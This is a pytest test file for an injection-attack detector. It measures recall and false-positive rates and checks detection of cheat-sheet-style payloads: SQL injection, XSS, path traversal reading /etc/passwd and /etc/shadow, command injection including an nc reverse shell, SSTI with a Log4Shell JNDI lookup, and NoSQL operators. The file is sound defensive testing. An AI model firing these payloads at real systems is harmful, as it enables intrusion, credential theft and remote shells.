"""Recall per class and benign false-positive rate on a held-out generated corpus (seeds unseen in training).

Figures are printed (`pytest -s`); the bar is recall >= 97% in every class at FPR <= 0.1%.
"""

from __future__ import annotations

from detectors.injection.analyzer import Analyzer
from detectors.injection.corpus import CLASSES, attack_events
from detectors.injection.corpus_benign import benign_values

PER_CLASS = 1500
BENIGN = 15_000
EVAL_SEED = 20261102  # training uses seed 7


def test_recall_in_every_class_and_benign_false_positive_rate(analyzer: Analyzer) -> None:
    figures: dict[str, float] = {}
    for cls, events in attack_events(PER_CLASS, EVAL_SEED).items():
        hits = same_class = 0
        for fields in events:
            found = {f.cls for f in analyzer.findings(fields)}
            hits += bool(found)
            same_class += cls in found
        figures[cls] = hits / len(events)
        figures[f"{cls}_as_class"] = same_class / len(events)
    benign = benign_values(BENIGN, EVAL_SEED)
    # Only clear findings alert on one request; weak probes alert when one source sends many.
    false_positives = [fields for fields in benign if any(not f.weak for f in analyzer.findings(fields))]
    fpr = len(false_positives) / len(benign)
    probes = [fields for fields in benign if analyzer.findings(fields)]
    print("\ninjection evaluation:", ", ".join(f"{k}={v:.4f}" for k, v in figures.items()), f"fpr={fpr:.5f}",
          f"benign_with_probe={len(probes) / len(benign):.4f}")
    assert len(probes) / len(benign) <= 0.02, probes[:5]  # probes are rare in benign traffic too
    for cls in CLASSES:
        assert figures[cls] >= 0.97, (cls, figures[cls])
        assert figures[f"{cls}_as_class"] >= 0.95, (cls, figures[f"{cls}_as_class"])
    assert fpr <= 0.001, false_positives[:5]


# Payloads as published in public cheat sheets and scanner output, typed from memory of their
# grammar (not copied from a dataset): each must be caught, in its plain and URL-encoded forms.
PUBLIC_STYLE = {
    "sqli": ["' OR 1=1-- -", "1' ORDER BY 3--+", "' UNION SELECT username, password FROM users--",
             "1 AND (SELECT 5813 FROM (SELECT(SLEEP(5)))Xyzw)", "'; WAITFOR DELAY '0:0:5'--",
             "1' AND EXTRACTVALUE(9876,CONCAT(0x5c,0x7171,(SELECT (ELT(9876=9876,1))),0x7171))-- Abcd",
             "admin'/*", "1) AND 4455=4455 AND (8899=8899", "-1 UNION ALL SELECT NULL,CONCAT(0x71,0x71),NULL-- -",
             "1;SELECT PG_SLEEP(5)--", "' AND 1=CONVERT(INT,(SELECT @@VERSION))--", "1' RLIKE SLEEP(5)-- x"],
    "xss": ["<script>alert(1)</script>", "\"><img src=x onerror=alert(document.domain)>", "<svg/onload=prompt(1)>",
            "javascript:alert(1)", "<iframe src=javascript:alert(1)>", "<body onload=alert('XSS')>",
            "'-alert(1)-'", "<details/open/ontoggle=confirm(1)>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>"],
    "traversal": ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd",
                  "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%252f..%252fetc%252fpasswd", "/etc/passwd%00.png",
                  "php://filter/read=convert.base64-encode/resource=config.php", "file:///etc/shadow",
                  "/etc/aliases", "/var/log/apache2/access.log", "C:/Windows/System32/drivers/etc/hosts"],
    "command": [";cat /etc/passwd", "| id", "`whoami`", "$(uname -a)", "&& ping -c 5 127.0.0.1", "|| sleep 10",
                "127.0.0.1; ls -la", "%0aid", ";nc -e /bin/sh 10.0.0.1 4444", "a;cat${IFS}/etc/passwd"],
    "ssti": ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "{{config.__class__.__init__.__globals__['os']}}",
             "{{''.__class__.__mro__[2].__subclasses__()}}", "#{7*7}", "${T(java.lang.Runtime).getRuntime()}",
             "${jndi:ldap://198.51.100.9:1389/a}", "${${lower:j}ndi:${lower:l}dap://x/a}",
             "%{(#_memberAccess['allowStaticMethodAccess']=true)}", "class.module.classLoader.URLs[0]=0"],
    "nosql": ["username[$ne]=toto&password[$ne]=toto", "login[$gt]=admin&pass[$gt]=", "user[$regex]=.*",
              "' || 'a'=='a", "';return true;var a='"],
}


def test_public_cheat_sheet_payloads_are_caught_plain_and_encoded(analyzer: Analyzer) -> None:
    from urllib.parse import quote

    missed = []
    for cls, payloads in PUBLIC_STYLE.items():
        for payload in payloads:
            for raw in (payload, quote(payload, safe="")):
                query = raw if cls == "nosql" and "[$" in payload else "q=" + quote(raw, safe="%")
                if cls not in {f.cls for f in analyzer.findings({"url.query": query})}:
                    missed.append((cls, raw))
    assert not missed
